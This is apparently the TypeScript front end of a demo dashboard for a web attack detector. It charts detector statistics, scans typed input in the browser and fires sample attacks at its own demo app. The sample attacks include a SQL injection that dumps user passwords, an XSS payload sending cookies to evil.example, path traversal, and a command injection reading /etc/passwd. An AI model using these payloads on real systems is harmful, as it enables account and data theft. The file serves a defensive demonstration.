// The demo dashboard: polls /api/stats every second and draws its own SVG
// charts (no chart library, no CDN); scans typed payloads in the browser with
// arenaguard's embedded wasm module; fires sample attacks at /app.
import { createArena, createDetector } from 'arenaguard';

interface PoolStats { name: string; slotSize: number; inUse: number; capacity: number; peakInUse: number }
interface Blocked { time: number; requestId: string; method: string; path: string; threats: { category: string; ruleId: string; location: string }[] }
interface Stats {
  protected: boolean;
  time: number;
  requests: number;
  blocked: number;
  health: string;
  arena: { bytesInUse: number; bytesReserved: number; pools: Record<string, PoolStats> };
  detector: Record<string, unknown>;
  recent: Blocked[];
}
interface Threat { category: string; ruleId: string; offset: number; length: number; score?: number; severity?: unknown }

const $ = <T extends Element = HTMLElement>(selector: string) => document.querySelector(selector) as T;
const WINDOW = 60;
const COLORS = ['#4f8cff', '#f5a623', '#7ed321', '#bd10e0', '#50e3c2'];
const poolHistory = new Map<string, number[]>();
const rateHistory: number[] = [];
let lastScanned: { count: number; time: number } | undefined;

function scannedOf(detector: Record<string, unknown>): number {
  const n = detector.requests ?? detector.scans;
  return typeof n === 'number' ? n : 0;
}

function push(series: number[], value: number): void {
  series.push(value);
  if (series.length > WINDOW) series.shift();
}

function formatBytes(n: number): string {
  if (n >= 1 << 20) return `${(n / (1 << 20)).toFixed(1)} MiB`;
  if (n >= 1024) return `${(n / 1024).toFixed(0)} KiB`;
  return `${n} B`;
}

/** Lines on a 600×200 SVG; y from 0 to the largest value (at least `floor`). */
function drawLines(svg: SVGSVGElement, series: { name: string; values: number[]; color: string }[], floor: number): void {
  const max = Math.max(floor, ...series.flatMap((s) => s.values));
  const x = (i: number) => (i / (WINDOW - 1)) * 600;
  const y = (v: number) => 195 - (v / max) * 185;
  let markup = '';
  for (let g = 0; g <= 4; g++) {
    const gy = 10 + g * 46.25;
    markup += `<line x1="0" x2="600" y1="${gy}" y2="${gy}" class="grid"/>`;
  }
  markup += `<text x="4" y="20" class="axis">${Number.isInteger(max) ? max : max.toFixed(1)}</text><text x="4" y="192" class="axis">0</text>`;
  for (const s of series) {
    const offset = WINDOW - s.values.length;
    const points = s.values.map((v, i) => `${x(i + offset).toFixed(1)},${y(v).toFixed(1)}`).join(' ');
    markup += `<polyline points="${points}" fill="none" stroke="${s.color}" stroke-width="2.5" vector-effect="non-scaling-stroke" data-series="${s.name}"/>`;
  }
  svg.innerHTML = markup;
}

function escapeHtml(text: string): string {
  return text.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`);
}

/** `tick`: a once-a-second sample, which advances the charts; other refreshes only update numbers and tables. */
function render(stats: Stats, tick: boolean): void {
  const mode = $('#mode');
  mode.textContent = stats.protected ? 'protected' : 'UNPROTECTED';
  mode.className = `badge ${stats.protected ? 'ok' : 'bad'}`;
  const health = $('#health');
  health.textContent = `health: ${stats.health}`;
  health.className = `badge ${stats.health === 'ok' ? 'ok' : stats.health === 'degraded' ? 'warn' : 'bad'}`;

  const scanned = scannedOf(stats.detector);
  $('#scanned').textContent = String(scanned);
  $('#blocked-count').textContent = String(stats.blocked);
  $('#arena-bytes').textContent = `${formatBytes(stats.arena.bytesInUse)} / ${formatBytes(stats.arena.bytesReserved)}`;

  const pools = Object.values(stats.arena.pools);
  if (tick) {
    const rate = lastScanned ? Math.max(0, (scanned - lastScanned.count) / Math.max(0.001, (stats.time - lastScanned.time) / 1000)) : 0;
    lastScanned = { count: scanned, time: stats.time };
    push(rateHistory, rate);
    pools.forEach((p) => {
      if (!poolHistory.has(p.name)) poolHistory.set(p.name, []);
      push(poolHistory.get(p.name)!, p.inUse);
    });
  }
  const rate = rateHistory.at(-1) ?? 0;
  $('#scans-rate').textContent = rate.toFixed(1);
  for (const p of pools) if (!poolHistory.has(p.name)) poolHistory.set(p.name, []);
  drawLines($<SVGSVGElement>('#pool-chart'), pools.map((p, i) => ({ name: p.name, values: poolHistory.get(p.name)!, color: COLORS[i % COLORS.length]! })), 4);
  $('#pool-legend').innerHTML = pools.map((p, i) =>
    `<span data-pool="${escapeHtml(p.name)}"><i style="background:${COLORS[i % COLORS.length]}"></i>${escapeHtml(p.name)} (${formatBytes(p.slotSize)} slots): <b class="in-use">${p.inUse}</b> in use of ${p.capacity} mapped, peak ${p.peakInUse}</span>`).join('');
  drawLines($<SVGSVGElement>('#rate-chart'), [{ name: 'scans', values: rateHistory, color: COLORS[0]! }], 5);
  $('#rate-legend').textContent = `${rate.toFixed(1)} scans/s now`;

  $('#recent').innerHTML = stats.recent.map((b) => b.threats.map((t, i) => `<tr>
      <td>${i === 0 ? new Date(b.time).toLocaleTimeString() : ''}</td>
      <td>${i === 0 ? `${escapeHtml(b.method)} ${escapeHtml(b.path)}` : ''}</td>
      <td><span class="cat cat-${escapeHtml(t.category)}">${escapeHtml(t.category)}</span></td>
      <td><code>${escapeHtml(t.ruleId)}</code></td>
      <td><code>${escapeHtml(t.location)}</code></td>
      <td class="muted">${i === 0 ? escapeHtml(b.requestId.slice(0, 8)) : ''}</td></tr>`).join('')).join('');
}

async function poll(tick: boolean): Promise<void> {
  try {
    const res = await fetch('./api/stats', { cache: 'no-store' });
    if (res.ok) render(await res.json(), tick);
  } catch {
    $('#health').textContent = 'health: server unreachable';
    $('#health').className = 'badge bad';
  }
}

// ---- try a payload: the scan runs here, in the browser --------------------------------

async function setupScanner(): Promise<void> {
  const arena = await createArena({ autoShrink: false });
  const detector = await createDetector({ arena, paranoia: 1 });
  const engine = $('#engine');
  engine.textContent = 'wasm loaded: scanning in this tab';
  engine.dataset.ready = 'true';
  const input = $<HTMLTextAreaElement>('#payload');
  const context = $<HTMLSelectElement>('#context');
  const update = () => {
    const text = input.value;
    const verdict = $('#verdict');
    const t0 = performance.now();
    const result = detector.scan(text, { context: context.value as 'query' }) as { blocked: boolean; score: number; threats: Threat[] };
    const micros = ((performance.now() - t0) * 1000).toFixed(0);
    if (text.length === 0) {
      verdict.className = 'verdict idle';
      verdict.textContent = 'type something';
    } else if (result.threats.length === 0) {
      verdict.className = 'verdict clean';
      verdict.textContent = `clean · score ${result.score} · ${micros} µs`;
    } else {
      verdict.className = `verdict ${result.blocked ? 'flagged' : 'suspicious'}`;
      verdict.textContent = `${result.blocked ? 'flagged: would be blocked' : 'suspicious, below threshold'} · score ${result.score} · ${micros} µs`;
    }
    $('#highlight').innerHTML = highlight(text, result.threats);
    $('#findings').innerHTML = result.threats.map((t) =>
      `<li><span class="cat cat-${escapeHtml(t.category)}">${escapeHtml(t.category)}</span> <code>${escapeHtml(t.ruleId)}</code> at ${t.offset}+${t.length}</li>`).join('');
  };
  input.addEventListener('input', update);
  context.addEventListener('change', update);
  update();
}

/** The input as HTML with every flagged span wrapped in <mark> (overlapping spans merged). */
function highlight(text: string, threats: Threat[]): string {
  const spans = threats
    .filter((t) => t.length > 0 && t.offset >= 0 && t.offset < text.length)
    .map((t) => [t.offset, Math.min(text.length, t.offset + t.length)] as [number, number])
    .sort((a, b) => a[0] - b[0]);
  const merged: [number, number][] = [];
  for (const s of spans) {
    const last = merged.at(-1);
    if (last && s[0] <= last[1]) last[1] = Math.max(last[1], s[1]);
    else merged.push([...s]);
  }
  let out = '';
  let at = 0;
  for (const [start, end] of merged) {
    out += escapeHtml(text.slice(at, start)) + `<mark>${escapeHtml(text.slice(start, end))}</mark>`;
    at = end;
  }
  return out + escapeHtml(text.slice(at));
}

// ---- sample attacks -------------------------------------------------------------------

const ATTACKS: Record<string, () => Promise<Response>[]> = {
  benign: () => [fetch('./app/search?q=garden')],
  'sqli-search': () => [fetch(`./app/search?q=${encodeURIComponent("x' UNION SELECT id, username, password FROM users --")}`)],
  'xss-comment': () => [fetch('./app/comments', {
    method: 'POST', headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ author: 'mallory', text: '<img src=x onerror="fetch(\'//evil.example/?c=\'+document.cookie)">' }),
  })],
  'path-download': () => [fetch(`./app/download?file=${encodeURIComponent('../../package.json')}`)],
  'cmdi-search': () => [fetch(`./app/search?q=${encodeURIComponent('rake; cat /etc/passwd')}`)],
  // (sizes taken in turn, so all three classes are held at once; at most BURST_AT_ONCE in flight: a browser opens
  // six connections to a host, and uploads holding all six would queue this page's own stats polls behind them)
  burst: () => inTurn(Array.from({ length: 24 }, (_, i) => () => fetch('./app/upload', {
    method: 'POST', headers: { 'content-type': 'text/plain' }, body: 'seed '.repeat([100, 1200, 9000][i % 3]!),
  })), BURST_AT_ONCE),
};

const BURST_AT_ONCE = 4;

/** Start `tasks` with at most `limit` running at a time; one promise per task, in order. */
function inTurn<T>(tasks: (() => Promise<T>)[], limit: number): Promise<T>[] {
  let next = 0;
  const results = tasks.map(() => {
    let settle!: { resolve: (value: T) => void; reject: (reason: unknown) => void };
    const promise = new Promise<T>((resolve, reject) => { settle = { resolve, reject }; });
    return { promise, settle };
  });
  const startNext = (): void => {
    if (next >= tasks.length) return;
    const at = next++;
    tasks[at]!().then(results[at]!.settle.resolve, results[at]!.settle.reject).finally(startNext);
  };
  for (let i = 0; i < Math.min(limit, tasks.length); i++) startNext();
  return results.map((r) => r.promise);
}

async function fire(name: string): Promise<void> {
  const log = $('#attack-log');
  const responses = await Promise.allSettled(ATTACKS[name]!());
  for (const r of responses.slice(0, 3)) {
    const li = document.createElement('li');
    if (r.status === 'rejected') {
      li.textContent = `${name}: network error`;
    } else {
      const res = r.value;
      let detail = '';
      if (res.status === 403) {
        const body = await res.json() as { threats: { ruleId: string; location: string }[] };
        detail = body.threats.map((t) => `${t.ruleId} @ ${t.location}`).join(', ');
      } else {
        detail = (await res.text()).slice(0, 80);
      }
      li.className = res.status === 403 ? 'blocked' : res.ok ? 'passed' : 'error';
      li.innerHTML = `<b>${res.status}</b> ${escapeHtml(name)} <span class="muted">${escapeHtml(detail)}</span>`;
    }
    log.prepend(li);
  }
  if (responses.length > 3) {
    const li = document.createElement('li');
    li.textContent = `… ${responses.length} requests in the burst`;
    log.prepend(li);
  }
  while (log.children.length > 30) log.lastElementChild!.remove();
  void poll(false);
}

for (const button of document.querySelectorAll<HTMLButtonElement>('button[data-attack]')) {
  button.addEventListener('click', () => void fire(button.dataset.attack!));
}

void poll(true);
setInterval(() => void poll(true), 1000);
setupScanner().catch((error) => {
  $('#engine').textContent = `scanner failed to load: ${String(error)}`;
});
